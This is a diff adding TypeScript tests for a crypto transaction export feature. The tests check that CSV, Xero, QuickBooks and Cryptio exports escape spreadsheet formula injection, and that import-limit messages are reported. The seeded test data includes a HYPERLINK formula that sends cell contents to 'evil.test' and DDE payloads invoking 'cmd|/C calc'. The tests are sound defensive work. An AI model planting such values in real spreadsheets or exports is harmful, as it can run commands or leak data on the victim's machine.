@@ -196,3 +196,119 @@ describe('/tx export format=…', () => {
     expect(last).toContain('The file holds BTC, USDT: Xero imports one bank account (one currency) per file');
   });
 });
+
+describe('/tx export: text from the service cannot run as a spreadsheet formula', () => {
+  const HOSTILE = {
+    from: '=HYPERLINK("http://evil.test/?x="&A1,"click")',
+    to: '@SUM(1+1)*cmd|/C calc!A0',
+    hash: '-2+3+cmd|/C calc!A0',
+    reference: '+1+1',
+    tabbed: '\t=1+1',
+  };
+
+  function seedHostile(): void {
+    t.app.sandbox!.resetTransactions([
+      {
+        transactionType: 'Deposit',
+        currency: 'USDT',
+        network: 'BSC',
+        amount: '5',
+        transactionTimeStamp: AT,
+        transactionHash: HOSTILE.hash,
+        fromAddress: HOSTILE.from,
+        reference: HOSTILE.reference,
+      },
+      {
+        transactionType: 'Withdrawal',
+        currency: 'USDT',
+        network: 'BSC',
+        amount: '0.1',
+        transactionTimeStamp: AT - 86_400_000,
+        transactionHash: '0xwd2',
+        toAddress: HOSTILE.to,
+        reference: HOSTILE.tabbed,
+      },
+    ]);
+  }
+
+  it('csv: addresses, hash and reference get a leading quote; the amount stays a number', async () => {
+    seedHostile();
+    const { rows } = await exportFile('currency=USDT');
+    const dep = rows.find((r) => r[2] === 'deposit')!;
+    const wd = rows.find((r) => r[2] === 'withdrawal')!;
+    expect(dep[4]).toBe('5');
+    expect(dep[7]).toBe(`'${HOSTILE.from}`);
+    expect(dep[9]).toBe(`'${HOSTILE.hash}`);
+    expect(dep[10]).toBe(`'${HOSTILE.reference}`);
+    expect(wd[8]).toBe(`'${HOSTILE.to}`);
+    expect(wd[10]).toBe(`'${HOSTILE.tabbed}`);
+  });
+
+  it('xero: payee and reference are escaped; the negative amount is not', async () => {
+    seedHostile();
+    const { rows } = await exportFile('format=xero');
+    expect(rows.slice(1)).toEqual([
+      ['02/11/2026', '-0.1', `'${HOSTILE.to}`, 'USDT withdrawal on BSC (tx 0xwd2)', `'${HOSTILE.tabbed}`],
+      ['03/11/2026', '5', `'${HOSTILE.from}`, `USDT deposit on BSC (tx ${HOSTILE.hash})`, `'${HOSTILE.reference}`],
+    ]);
+  });
+
+  it('quickbooks: the negative amount stays a number', async () => {
+    seedHostile();
+    const { rows } = await exportFile('format=quickbooks');
+    expect(rows.slice(1).map((r) => r[2])).toEqual(['-0.1', '5']);
+  });
+
+  it('cryptio: txhash and otherParties are escaped; volumes are not', async () => {
+    seedHostile();
+    const { rows } = await exportFile('format=cryptio');
+    const dep = rows.find((r) => r[1] === 'deposit')!;
+    const wd = rows.find((r) => r[1] === 'withdraw')!;
+    expect(dep[2]).toBe(`'${HOSTILE.hash}`);
+    expect(dep[4]).toBe('5');
+    expect(dep[15]).toBe(`'${HOSTILE.from}`);
+    expect(dep[16]).toBe(`BSC, reference ${HOSTILE.reference}`);
+    expect(wd[8]).toBe('0.1');
+    expect(wd[15]).toBe(`'${HOSTILE.to}`);
+  });
+});
+
+describe('/tx export: what each tool cannot import is said in the message', () => {
+  it('cryptio: a record without a transaction hash is left out, and the message counts it', async () => {
+    t.app.sandbox!.resetTransactions([
+      { transactionType: 'Deposit', currency: 'USDT', network: 'BSC', amount: '1', transactionTimeStamp: AT },
+      {
+        transactionType: 'Deposit',
+        currency: 'USDT',
+        network: 'BSC',
+        amount: '2',
+        transactionTimeStamp: AT - 1000,
+        transactionHash: '',
+      },
+    ]);
+    const { rows, last, file } = await exportFile('format=cryptio');
+    expect(rows).toHaveLength(2);
+    expect(rows[1]![4]).toBe('1');
+    expect(rows[1]![2]).not.toBe('');
+    expect(last).toContain('Export finished: 1 records for Cryptio');
+    expect(last).toContain('1 record was left out: without a transaction hash, which Cryptio needs on every line.');
+    expect(file!.initial_comment).toContain('1 record was left out: without a transaction hash');
+  });
+
+  it('xero: more than 1,000 lines is written whole, and the message says to split it', async () => {
+    t.app.sandbox!.resetTransactions(
+      Array.from({ length: 1001 }, (_, i) => ({
+        transactionType: 'Deposit' as const,
+        currency: 'USDT',
+        network: 'BSC',
+        amount: String(i + 1),
+        transactionTimeStamp: AT - i * 1000,
+      })),
+    );
+    const { rows, last, file } = await exportFile('format=xero');
+    expect(rows).toHaveLength(1002);
+    expect(file!.initial_comment).toContain('Xero imports at most 1,000 lines at a time: split this file');
+    expect(last).toContain('Export finished: 1001 records for Xero');
+    expect(last).toContain('Xero imports at most 1,000 lines at a time: split this file');
+  });
+});
